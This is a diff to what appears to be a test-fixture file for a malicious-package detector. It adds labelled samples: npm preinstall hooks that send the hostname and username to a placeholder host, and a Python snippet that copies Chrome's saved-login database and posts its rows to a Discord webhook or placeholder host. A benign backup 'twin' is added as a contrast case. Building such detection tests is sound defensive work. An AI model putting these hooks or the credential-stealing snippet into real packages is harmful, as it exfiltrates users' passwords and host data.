@@ -131,6 +131,25 @@ export const loaderSamples = (): Sample[] => [
     'script.install-hook',
     npm({ preinstall: `curl -X POST -d "$(hostname)-$(whoami)" https://collect.example.invalid` }),
   ),
+  ...[
+    `node -e "require('https').get('https://collect.example.invalid/?'+require('os').hostname())"`,
+    `node -e "const os=require('os');require('http').get('http://collect.example.invalid/'+os.userInfo().username)"`,
+  ].map((preinstall, at) =>
+    sample(
+      `package-${5 + at}.json`,
+      'data about the host, in either order',
+      'script.install-hook',
+      npm({ preinstall }),
+    ),
+  ),
+  ...['https://discord.com/api/webhooks/1/x', 'https://collect.example.invalid'].map((to, at) =>
+    sample(
+      `passwords-${at + 1}.py`,
+      'the passwords of a browser',
+      'script.secrets-sent',
+      `import os, requests, shutil, sqlite3\nshutil.copy(os.environ["LOCALAPPDATA"] + "/Google/Chrome/User Data/Default/Login Data", "x.db")\nrows = sqlite3.connect("x.db").execute("select origin_url, username_value from logins").fetchall()\nrequests.post("${to}", json={"content": str(rows)})\n`,
+    ),
+  ),
   sample(
     'run.cjs',
     'a command in base64',
@@ -234,6 +253,11 @@ export const loaderTwins = (): Twin[] => [
     'decode.cjs',
     'data in base64',
     `const { exec } = require('child_process')\nconst key = Buffer.from('${base64('a public key of somebody else')}', 'base64')\nconst m = /a(b)/.exec(key)\nexec('git status', () => console.log(m, key))\n`,
+  ),
+  twin(
+    'profile_copy.py',
+    'a copy of the own browser profile, and a message that it is done',
+    `import shutil, requests\nshutil.copytree("/home/me/.config/chromium/Default", "/backup/chromium", ignore=shutil.ignore_patterns("Cache*"))\nrequests.post("https://hooks.example.com/done", json={"text": "backup finished"})\n`,
   ),
   twin(
     'window.au3',
